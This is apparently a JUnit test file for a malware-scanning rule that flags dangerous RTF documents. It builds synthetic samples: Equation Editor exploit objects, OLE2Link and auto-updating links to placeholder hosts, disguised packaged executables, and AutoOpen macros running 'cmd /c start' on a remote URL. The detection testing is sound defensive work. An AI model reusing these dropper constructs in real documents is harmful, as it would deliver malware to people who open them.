package org.peekaboo.ruleset;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.peekaboo.bench.DropperCorpus;
import org.peekaboo.bench.DropperPdfs;
import org.peekaboo.bench.DropperRtf;
import org.peekaboo.office.OleReportSource;
import org.peekaboo.office.testing.OfficeFiles;
import org.peekaboo.rtf.RtfLimits;
import org.peekaboo.ruleset.testing.FakeFileTypeDetector;
import org.peekaboo.ruleset.testing.RtfFiles;
import org.peekaboo.ruleset.testing.TestSamples;
import org.peekaboo.verdict.Result;
import org.peekaboo.verdict.RuleResult;

class RtfDropperRuleTest {
    private static final RuleResult NOTHING_FOUND = RuleResult.proceed("rtf_dropper", Result.UNKNOWN,
            "The RTF document carries no object that runs or fetches anything");

    private final RtfDropperRule rule = new RtfDropperRule(OleReportSource.withDefaultLimits());

    @TempDir
    Path dir;

    @Test
    void anEquationEditorObjectIsBad() throws IOException {
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Equation.3", RtfFiles.equationOle2()))))
                .isEqualTo(RuleResult.stop("rtf_dropper", Result.BAD, "The file is an RTF document carrying an"
                        + " Equation Editor object (Equation.3), the target of CVE-2017-11882 and CVE-2018-0802"
                        + " exploits"));
    }

    @Test
    void anEquationEditorObjectIsKnownByItsClsidOrStreamWhateverItsClassSays() throws IOException {
        byte[] byClsid = RtfFiles.compound(RtfFiles.EQUATION_CLSID, Map.of("Contents", new byte[600]));
        byte[] byStream = RtfFiles.compound(null, Map.of("Equation Native", new byte[600]));

        assertThat(evaluate(RtfFiles.rtf(RtfFiles.object("\\objemb", "Word.Picture.8",
                RtfFiles.ole1Embedded("Word.Picture.8", byClsid)))).reason())
                .contains("an Equation Editor object (CLSID 0002CE02-0000-0000-C000-000000000046)");
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.object("\\objemb", "Word.Picture.8",
                RtfFiles.ole1Embedded("Word.Picture.8", byStream)))).reason())
                .contains("an Equation Editor object (an Equation Native stream)");
    }

    @Test
    void anEquationHiddenInObfuscatedHexIsFound() throws IOException {
        byte[] data = RtfFiles.ole1Embedded("Equation.3", RtfFiles.equationOle2());
        byte[] rtf = ("{\\rtx{\\object\\objemb{\\*\\objdata " + RtfFiles.obfuscated(RtfFiles.hex(data)) + "}}}")
                .getBytes(StandardCharsets.ISO_8859_1);

        assertThat(evaluate(rtf).result()).isEqualTo(Result.BAD);
    }

    @Test
    void anOle2LinkIsBadAndNamesItsTarget() throws IOException {
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.object("\\objautlink\\objupdate", "Word.Document.8",
                RtfFiles.ole1Embedded("OLE2Link", RtfFiles.ole2Link("http://example.invalid/t.hta"))))).reason())
                .isEqualTo("The file is an RTF document carrying an OLE2Link object to http://example.invalid/t.hta,"
                        + " which fetches and opens what it names when the document opens (CVE-2017-0199)");
    }

    @Test
    void aLinkedObjectToAShareIsBadAndOneWithoutATargetGoesOn() throws IOException {
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.object("\\objautlink", "Excel.Sheet.8",
                RtfFiles.ole1Linked("Excel.Sheet.8", "\\\\198.51.100.7\\share\\book.xls", "Sheet1")))).reason())
                .isEqualTo("The file is an RTF document carrying a linked object (\\objautlink) to"
                        + " \\\\198.51.100.7\\share\\book.xls, which Word fetches when the document opens");
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.object("\\objlink", "Excel.Sheet.8",
                RtfFiles.ole1Linked("Excel.Sheet.8", "C:\\Reports\\book.xls", "Sheet1"))))).isEqualTo(NOTHING_FOUND);
    }

    @Test
    void aUrlInTheContentOfAnEmbeddedObjectIsNoLinkEvenWhenWordUpdatesIt() throws IOException {
        byte[] sheet = RtfFiles.compound(RtfFiles.EXCEL_CLSID, Map.of("Workbook",
                "see http://example.invalid/prices".getBytes(StandardCharsets.US_ASCII)));

        assertThat(evaluate(RtfFiles.rtf(RtfFiles.object("\\objemb\\objupdate", "Excel.Sheet.8",
                RtfFiles.ole1Embedded("Excel.Sheet.8", sheet))))).isEqualTo(NOTHING_FOUND);
    }

    @Test
    void anEmbeddedObjectWhoseMonikerNamesAUrlAndThatWordUpdatesIsBad() throws IOException {
        byte[] sheet = RtfFiles.compound(RtfFiles.EXCEL_CLSID, Map.of("\u0001Ole",
                RtfFiles.oleStream("http://example.invalid/m"), "Workbook", new byte[600]));

        assertThat(evaluate(RtfFiles.rtf(RtfFiles.object("\\objemb\\objupdate", "Excel.Sheet.8",
                RtfFiles.ole1Embedded("Excel.Sheet.8", sheet)))).reason())
                .isEqualTo("The file is an RTF document carrying a linked object (\\objupdate) to"
                        + " http://example.invalid/m, which Word fetches when the document opens");
    }

    @Test
    void aPackagedProgramScriptOrShortcutIsBad() throws IOException {
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Package",
                RtfFiles.packagerData("invoice.pdf", DropperPdfs.fakeProgram())))).reason())
                .isEqualTo("The file is an RTF document carrying the packaged program \"invoice.pdf\" (an MZ header)");
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Package",
                RtfFiles.packagerData("Rechnung.js", "WScript.Echo(1)".getBytes(StandardCharsets.US_ASCII))))).reason())
                .isEqualTo("The file is an RTF document carrying the packaged file \"Rechnung.js\", a program,"
                        + " script or shortcut by its name");
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Package",
                RtfFiles.packagerData("Scan.LNK", new byte[] {'L', 0, 0, 0})))).result()).isEqualTo(Result.BAD);
    }

    @Test
    void aPackagedDocumentGoesOn() throws IOException {
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Package",
                RtfFiles.packagerData("notes.txt", "see you".getBytes(StandardCharsets.US_ASCII))))))
                .isEqualTo(NOTHING_FOUND);
    }

    @Test
    void anEmbeddedDocumentWithADropperMacroIsBadAndOneWithAHarmlessMacroGoesOn() throws IOException {
        byte[] dropper = OfficeFiles.doc(OfficeFiles.module("ThisDocument", "Sub AutoOpen()",
                "    Shell \"cmd /c start http://example.invalid/r\", 0", "End Sub"));
        byte[] harmless = OfficeFiles.doc(OfficeFiles.module("Module1", "Sub AutoOpen()",
                "    StatusBar = \"Hello\"", "End Sub"));

        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Word.Document.8", dropper))).reason())
                .startsWith("The file is an RTF document carrying an embedded Office document (Word.Document.8) with a"
                        + " macro that runs by itself (AutoOpen) and runs programs (");
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Word.Document.8", harmless)))).isEqualTo(NOTHING_FOUND);
    }

    @Test
    void anEmbeddedDocmInAPackageStreamIsAnalysedToo() throws IOException {
        byte[] docm = OfficeFiles.docm(OfficeFiles.module("ThisDocument", "Sub AutoOpen()",
                "    Shell \"cmd /c start http://example.invalid/r\", 0", "End Sub"));
        byte[] object = RtfFiles.compound(RtfFiles.WORD12_CLSID, Map.of("Package", docm));

        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Word.Document.12", object))).reason())
                .startsWith("The file is an RTF document carrying an embedded Office document (Word.Document.12) with a"
                        + " macro that runs by itself (AutoOpen) and runs programs (");
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Word.Document.12",
                RtfFiles.compound(RtfFiles.WORD12_CLSID, Map.of("Package", OfficeFiles.docx())))))).isEqualTo(NOTHING_FOUND);
    }

    @Test
    void aDamagedCompoundFileStillShowsAnEquationOrAnOle2Link() throws IOException {
        byte[] equation = RtfFiles.equationOle2();
        byte[] link = RtfFiles.ole2Link("http://example.invalid/x");
        // A broken header sector count: POI refuses the file, Word's loader does not care.
        for (byte[] compound : new byte[][] {equation, link}) {
            java.util.Arrays.fill(compound, 0x2C, 0x30, (byte) 0x7F);
        }

        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Word.Picture.8", equation))).reason())
                .contains("an Equation Editor object (CLSID 0002CE02-0000-0000-C000-000000000046 in a damaged compound"
                        + " file)");
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Word.Picture.8", link))).reason())
                .contains("an OLE2Link object");
    }

    @Test
    void withoutAMacroAnalysisEmbeddedDocumentsAreNotLookedInto() throws IOException {
        byte[] dropper = OfficeFiles.doc(OfficeFiles.module("ThisDocument", "Sub AutoOpen()",
                "    Shell \"cmd /c start http://example.invalid/r\", 0", "End Sub"));
        RtfDropperRule blind = new RtfDropperRule(RtfLimits.DEFAULT, EmbeddedMacroAnalysis.NONE);

        assertThat(blind.evaluate(TestSamples.context(new TestSamples(dir).sample(RtfFiles.rtf(
                RtfFiles.embedded("Word.Document.8", dropper)), "a.rtf", null), FakeFileTypeDetector.nothingDetected())))
                .isEqualTo(NOTHING_FOUND);
        assertThat(EmbeddedMacroAnalysis.of(null)).isSameAs(EmbeddedMacroAnalysis.NONE);
        assertThat(EmbeddedMacroAnalysis.of(new MacroReportSource(OleReportSource.withDefaultLimits())))
                .isEqualTo(OleReportSource.withDefaultLimits());
    }

    @Test
    void aClassNameLongerThanWindowsAllowsIsBad() throws IOException {
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.object("\\objemb", "Equation",
                RtfFiles.ole1WithLongClassName(300)))).reason())
                .isEqualTo("The file is an RTF document carrying an OLE object whose class name is 300 bytes long,"
                        + " longer than any Windows class name, as in exploits of Word's object loader");
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.object("\\objemb", "X",
                RtfFiles.ole1WithLongClassName(40))))).isEqualTo(NOTHING_FOUND);
    }

    @Test
    void textTablesPicturesPaintAndExcelObjectsGoOn() throws IOException {
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.table(), RtfFiles.picture()))).isEqualTo(NOTHING_FOUND);
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("PBrush", new byte[] {'B', 'M', 0, 0}))))
                .isEqualTo(NOTHING_FOUND);
        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Excel.Sheet.8", RtfFiles.compound(RtfFiles.EXCEL_CLSID,
                Map.of("Workbook", new byte[4096], "\u0001CompObj", RtfFiles.compObj("Microsoft Excel 2003 Worksheet")))))))
                .isEqualTo(NOTHING_FOUND);
    }

    @Test
    void theCorpusDroppersAreBadAndItsBenignDocumentsGoOn() throws IOException {
        for (DropperCorpus.Sample sample : DropperRtf.samples()) {
            RuleResult result = evaluate(sample.bytes());
            assertThat(result.result()).as(sample.name() + ": " + result.reason())
                    .isEqualTo(sample.directory().equals("malicious") ? Result.BAD : Result.UNKNOWN);
        }
    }

    @Test
    void malformedDocumentsGoOnWithoutAnException() throws IOException {
        String[] malformed = {"{\\rt", "{\\rtf1{\\object{\\*\\objdata 0", "{\\rtf1{\\object{\\*\\objdata \\bin999999999 ab",
            "{\\rtf1" + "{".repeat(100_000), "{\\rtf1{\\object{\\*\\objdata 01050000020000000b000000}}}",
            "{\\rtf1{\\object{\\*\\objdata d0cf11e0a1b11ae1" + "00".repeat(600) + "}}}",
            "{\\rtf1}}}}}{\\object\\objupdate{\\*\\objdata zz}"};
        for (String rtf : malformed) {
            assertThat(evaluate(rtf.getBytes(StandardCharsets.ISO_8859_1)).result()).as(rtf.substring(0,
                    Math.min(60, rtf.length()))).isEqualTo(Result.UNKNOWN);
        }
    }

    @Test
    void truncatedAndMangledDroppersNeverThrow() throws IOException {
        java.util.Random random = new java.util.Random(13);
        for (DropperCorpus.Sample sample : DropperRtf.samples()) {
            for (int i = 0; i < 12; i++) {
                byte[] bytes = sample.bytes().clone();
                if (i % 2 == 0) {
                    bytes = java.util.Arrays.copyOf(bytes, 4 + random.nextInt(bytes.length - 4));
                } else {
                    for (int flip = 0; flip < 20; flip++) {
                        bytes[4 + random.nextInt(bytes.length - 4)] = (byte) random.nextInt(256);
                    }
                }
                assertThat(evaluate(bytes).rule()).isEqualTo("rtf_dropper");
            }
        }
    }

    @Test
    void otherFilesAreNoRtf() throws IOException {
        assertThat(evaluate("%PDF-1.7 {\\rtf1}".getBytes(StandardCharsets.US_ASCII)))
                .isEqualTo(RuleResult.proceed("rtf_dropper", Result.UNKNOWN, "The file is no RTF document"));
    }

    private RuleResult evaluate(byte[] bytes) throws IOException {
        return rule.evaluate(TestSamples.context(new TestSamples(dir).sample(bytes, "document.rtf", null),
                FakeFileTypeDetector.nothingDetected()));
    }
}
